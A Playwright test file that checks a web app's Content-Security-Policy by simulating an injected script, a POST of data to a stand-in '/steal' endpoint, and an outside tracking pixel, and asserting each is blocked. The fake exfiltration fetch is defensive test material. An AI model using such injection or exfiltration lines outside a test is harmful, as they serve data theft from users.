// The app runs under a strict Content-Security-Policy (issue 18): the whole suite runs under it,
// and here a script injected into the page, a connection to another address and a picture from
// elsewhere are each refused by the browser, with the violation reported, while the app itself
// (its inline start-up script, its wasm, its pictures in memory) works. Permissions-Policy
// leaves the camera to the app alone.
import { test, expect } from "@playwright/test";
import { startServer } from "../support/server.js";

const PASSPHRASE = "teapot river lantern"; // the demo's

let server;
test.afterEach(async () => {
  await server?.stop();
  server?.cleanUp();
});

test("the app works under its Content-Security-Policy, and what the policy forbids is refused", async ({ page }) => {
  server = await startServer({ args: ["--demo"] });
  const shell = await page.goto(server.url);
  const csp = shell.headers()["content-security-policy"];
  expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval' 'sha256-");
  expect(csp).not.toContain("'unsafe-eval'");
  expect(csp).toContain("frame-ancestors 'none'");
  expect(shell.headers()["permissions-policy"]).toContain("camera=(self)");

  // The app starts and a member of staff signs in: the start-up script and the wasm ran.
  await page.getByLabel("Your name").fill("Sam Patel");
  await page.getByLabel("Passphrase").fill(PASSPHRASE);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page.getByTestId("signed-in-as")).toHaveText("Sam Patel · Manager");

  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    // A script injected into the page, as a stored XSS would.
    const s = document.createElement("script");
    s.textContent = "window.injected = true;";
    document.body.appendChild(s);
    // A connection to somewhere else, as a thief's script would send what it read.
    let sent = true;
    try {
      await fetch("http://127.0.0.2:9/steal", { method: "POST", body: "x" });
    } catch {
      sent = false;
    }
    // A picture from elsewhere (a tracking pixel).
    const img = new Image();
    const loaded = await new Promise((resolve) => {
      img.onload = () => resolve(true);
      img.onerror = () => resolve(false);
      img.src = "http://127.0.0.2:9/pixel.png";
    });
    await new Promise((r) => setTimeout(r, 200));
    return { injected: window.injected === true, sent, loaded, violations };
  });
  expect(outcome.injected).toBe(false);
  expect(outcome.sent).toBe(false);
  expect(outcome.loaded).toBe(false);
  expect(outcome.violations).toEqual(expect.arrayContaining(["script-src-elem", "connect-src", "img-src"]));
});
